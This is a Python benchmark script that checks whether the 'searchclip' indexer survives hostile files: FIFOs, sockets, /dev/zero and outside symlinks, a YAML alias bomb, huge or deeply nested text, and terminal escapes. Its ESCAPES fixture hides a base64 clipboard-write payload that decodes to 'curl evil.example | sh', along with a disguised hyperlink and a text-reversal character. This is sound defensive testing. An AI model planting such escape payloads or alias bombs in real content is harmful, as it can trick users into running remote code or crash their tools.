"""Hostile and odd files beside good ones: does `searchclip index` finish, stay small, and find every
good file?

    python benchmarks/hostile.py [--searchclip PATH] [--timeout 120] [--memory-mb 4096] [--output out.json]

For each case a fresh folder holds eight good clippings (each with a word no other file has) and the
hostile file(s) of the case; `searchclip index` runs on it with a time limit and an address-space
limit, then every good file's word is searched. Reported per case: wall time, peak memory of the
indexing process tree, exit code, whether every good file is found, and for the cases that print
clipped text whether terminal escape sequences reached the output. `--searchclip` names another
installation's executable, so that two versions can be compared on the same cases.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

PAGE = os.sysconf("SC_PAGE_SIZE")
GOOD_WORDS = [
    "가나다라마바",
    "zyxwvutsr",
    "きくけこさしすせ",
    "qwertyplm",
    "보리차한잔",
    "mnbvcxzlk",
    "とりあえず寿司",
    "plokijuhy",
]
ESCAPES = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\u202e"
)


def good_files(folder: Path) -> None:
    for number, word in enumerate(GOOD_WORDS):
        front = f"---\ntitle: good {number}\nsource: https://example.com/{number}\n---\n"
        (folder / f"good {number}.md").write_text(f"{front}이 글에는 {word} 이라는 낱말이 있다.\n", encoding="utf-8")


def fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe.md")


def unix_socket(folder: Path) -> None:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(folder / "socket.md"))
    sock.close()


def dev_zero(folder: Path) -> None:
    (folder / "zero.md").symlink_to("/dev/zero")


def outside_symlink(folder: Path) -> None:
    secret = folder.parent / "secret-outside.md"
    secret.write_text("---\ntitle: secret\n---\nprivatekeymaterial\n", encoding="utf-8")
    (folder / "linked.md").symlink_to(secret)


def alias_bomb(folder: Path) -> None:
    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for n in range(1, 10):
        levels.append(f"{chr(97 + n)}: &{chr(97 + n)} [" + ", ".join([f"*{chr(96 + n)}"] * 9) + "]")
    (folder / "bomb.md").write_text("---\n" + "\n".join(levels) + "\ntitle: *j\n---\nbody\n", encoding="utf-8")


def many_headers(folder: Path) -> None:
    post = "**Name** @handle [2024-06-03](https://x.com/h/status/1)\n\n짧은 글\n\n---\n\n"
    (folder / "headers.md").write_text("---\ntitle: t\n---\n" + post * 100_000, encoding="utf-8")


def long_line(folder: Path) -> None:
    unit = "한국어 문장과 English words 그리고 日本語 "
    (folder / "line.md").write_text(
        "---\ntitle: t\n---\n" + unit * (19_000_000 // len(unit.encode())), encoding="utf-8"
    )


def zero_date(folder: Path) -> None:
    (folder / "zero date.md").write_text(
        "---\ntitle: z\npublished: 0001-01-01\n---\n날짜가 이상한 글\n", encoding="utf-8"
    )


def bad_name(folder: Path) -> None:
    with open(os.fsencode(folder) + b"/bad \xff\xfe name.md", "w", encoding="utf-8") as fh:
        fh.write("---\ntitle: bad name\n---\n이름이 이상한 파일\n")


def nesting(folder: Path) -> None:
    (folder / "nested.md").write_text("---\ntitle: n\n---\n" + "> " * 100_000 + "깊은 인용\n", encoding="utf-8")


def brackets(folder: Path) -> None:
    (folder / "brackets.md").write_text(
        "---\ntitle: b\n---\n" + "[" * 200_000 + "*a" * 200_000 + "\n", encoding="utf-8"
    )


def escapes(folder: Path) -> None:
    (folder / f"esc{ESCAPES[:6]}.md").write_text(
        f"---\ntitle: 'title {ESCAPES}'\nauthor: '{ESCAPES}'\n---\n탈출문자 {ESCAPES} 들어있는 글\n", encoding="utf-8"
    )


CASES: dict[str, Callable[[Path], None]] = {
    "good files only": lambda folder: None,
    "FIFO named .md": fifo,
    "socket named .md": unix_socket,
    "symlink to /dev/zero": dev_zero,
    "symlink outside the folder": outside_symlink,
    "YAML alias bomb": alias_bomb,
    "100,000 post headers": many_headers,
    "19 MB single line": long_line,
    "published: 0001-01-01": zero_date,
    "file name not UTF-8": bad_name,
    "100,000 nested quotes": nesting,
    "200,000 brackets": brackets,
    "terminal escapes": escapes,
}


@dataclass
class CaseResult:
    case: str
    seconds: float
    peak_mb: float
    exit_code: int | str
    good_found: str
    escapes_shown: str
    secret_found: str


def run_case(name: str, make: Callable[[Path], None], exe: list[str], timeout: float, memory: int) -> CaseResult:
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        folder = Path(tmp) / "clippings"
        folder.mkdir()
        good_files(folder)
        make(folder)
        index = Path(tmp) / "index"
        started = time.perf_counter()
        code, peak = _index(exe, folder, index, timeout, memory)
        seconds = time.perf_counter() - started
        found = sum(_finds(exe, index, word) for word in GOOD_WORDS)
        shown = _escapes_shown(exe, index) if name == "terminal escapes" else "-"
        secret = "yes" if name == "symlink outside the folder" and _finds(exe, index, "privatekeymaterial") else "-"
        if name == "symlink outside the folder" and secret == "-":
            secret = "no"
        return CaseResult(name, seconds, peak * PAGE / 1e6, code, f"{found}/{len(GOOD_WORDS)}", shown, secret)


def _index(exe: list[str], folder: Path, index: Path, timeout: float, memory: int) -> tuple[int | str, int]:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
        os.setsid()

    env = {**os.environ, "SEARCHCLIP_WORKERS": "1", "NO_COLOR": "1"}
    proc = subprocess.Popen(
        [*exe, "index", str(folder), "--index", str(index), "--quiet"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=env,
        preexec_fn=limit,
    )
    peak = [0]
    sampler = threading.Thread(target=_sample, args=(proc, peak), daemon=True)
    sampler.start()
    try:
        code: int | str = proc.wait(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        code = f"timeout {timeout:.0f} s"
    sampler.join()
    if isinstance(code, int) and code < 0:
        code = f"killed by {signal.Signals(-code).name}"
    return code, peak[0]


def _sample(proc: subprocess.Popen, peak: list[int]) -> None:  # type: ignore[type-arg]
    while proc.poll() is None:
        with contextlib.suppress(OSError, IndexError, ValueError):
            peak[0] = max(peak[0], int(Path(f"/proc/{proc.pid}/statm").read_text().split()[1]))
        time.sleep(0.05)


def _finds(exe: list[str], index: Path, word: str) -> bool:
    done = subprocess.run(
        [*exe, "search", word, "--index", str(index), "--no-service", "--json"],
        capture_output=True,
        timeout=120,
        check=False,
    )
    return done.returncode == 0


# searchclip's own colour codes and file links; any other control character came from the clipping.
OUR_CODES = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;id=\d+;file://[^\x1b]*\x1b\\|\x1b\]8;;\x1b\\")
STRAY = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _escapes_shown(exe: list[str], index: Path) -> str:
    """How many control characters of the clipped text reached the terminal output, without and
    with --color always (ESC starts screen, link and clipboard codes; U+202E reverses text)."""
    found = []
    for args in (["search", "탈출문자"], ["search", "탈출문자", "--color", "always"]):
        done = subprocess.run(
            [*exe, *args, "--index", str(index), "--no-service"], capture_output=True, timeout=120, check=False
        )
        found.append(str(len(STRAY.findall(OUR_CODES.sub("", done.stdout.decode("utf-8", "replace"))))))
    return "/".join(found)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--searchclip", default=None, help="the searchclip executable to measure (default: this one)")
    parser.add_argument("--timeout", type=float, default=120.0)
    parser.add_argument("--memory-mb", type=int, default=4096)
    parser.add_argument("--case", action="append", help="run only these cases (repeatable)")
    parser.add_argument("--output", type=Path)
    args = parser.parse_args()
    exe = [args.searchclip] if args.searchclip else [sys.executable, "-m", "searchclip"]
    results = []
    for name, make in CASES.items():
        if args.case and name not in args.case:
            continue
        result = run_case(name, make, exe, args.timeout, args.memory_mb * 1024 * 1024)
        results.append(result)
        print(
            f"{result.case:28} {result.seconds:7.1f} s {result.peak_mb:8.0f} MB  exit {result.exit_code!s:18} "
            f"good found {result.good_found}  escapes shown {result.escapes_shown}  "
            f"outside file found {result.secret_found}",
            flush=True,
        )
    if args.output:
        args.output.write_text(json.dumps([asdict(r) for r in results], indent=1), encoding="utf-8")


if __name__ == "__main__":
    main()
